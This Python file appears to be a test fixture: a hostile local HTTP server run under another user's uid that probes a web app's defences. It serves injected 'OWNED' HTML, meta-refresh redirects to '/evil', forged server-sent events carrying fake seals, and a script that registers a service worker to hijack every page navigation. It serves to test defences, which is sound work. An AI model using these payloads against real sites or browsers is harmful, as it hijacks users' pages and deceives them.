"""A server of another user, which does to browsers what it can; to be run with a uid, a port and a log."""

from __future__ import annotations

import encodings.idna  # noqa: F401 - the other user may not be able to read it
import json
import os
import queue
import re
import socket
import sys
import threading
from collections import defaultdict
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

OWNED = "<title>OWNED</title>owned"
PARTS = ("tabs", "banner", "empty", "summary", "job-1")
REFRESH = '<meta http-equiv="refresh" content="0; url=/evil">'
NEWS = {
    "version": 10**9,
    "parts": {part: f'<div id="{part}">{REFRESH}{OWNED}</div>' for part in PARTS},
    "order": [],
    "lines": f"{REFRESH}{OWNED}",
    "open": OWNED,
    "at": 0,
    "style": "",
    "gone": OWNED,
}
EVIL = f"""{OWNED}<script>
navigator.serviceWorker.register("/worker", {{ scope: "/" }}).then(() => navigator.serviceWorker.ready)
    .then(() => (document.body.textContent = "registered"));
</script>"""
WORKER = f"""
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => event.request.mode === "navigate" && event.respondWith(
    new Response("{OWNED}", {{ headers: {{ "Content-Type": "text/html" }} }})));
"""


# The nonces of the streams that pages have asked for, by the name of the connection that they share
streams: defaultdict[str, queue.Queue[str]] = defaultdict(queue.Queue)


class Hostile(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        with open(sys.argv[3], "a") as log:  # noqa: PTH123 - it starts in a moment
            log.write(json.dumps([self.command, self.path, dict(self.headers)]) + "\n")
        if asked := re.search("nonce=([0-9a-f]{32})&shared=([0-9a-f]{32})", self.path):
            streams[asked[2]].put(asked[1])
            self.answer("text/event-stream", "")
        elif name := re.search("/shared/([0-9a-f]{32})$", self.path):
            self.answer("text/event-stream", "")
            while True:
                nonce, seal = streams[name[1]].get(), "A" * 43 + "="
                events = [None, NEWS, {"end": True, "text": OWNED, "hits": [0]}]
                text = "".join(f"id: {nonce} {seal}\ndata: {json.dumps(event)}\n\n" for event in events)
                self.wfile.write(text.encode())
        elif self.path == "/worker":
            self.answer("text/javascript", WORKER)
        elif "json" in self.headers.get("Accept", ""):
            self.answer("application/json", json.dumps(NEWS | {"count": 1, "error": OWNED}))
        else:
            self.answer("text/html", EVIL)

    def do_POST(self) -> None:
        self.do_GET()

    def answer(self, kind: str, text: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("X-Bgd-Seal", "A" * 43 + "=")
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the library's name
        del format, args


class Server6(ThreadingHTTPServer):
    address_family = socket.AF_INET6


if __name__ == "__main__":
    os.setuid(int(sys.argv[1]))
    for server in (ThreadingHTTPServer, Server6):
        host = "::1" if server is Server6 else "127.0.0.1"
        threading.Thread(target=server((host, int(sys.argv[2])), Hostile).serve_forever, daemon=True).start()
    print("serving", flush=True)
    sys.stdin.read()
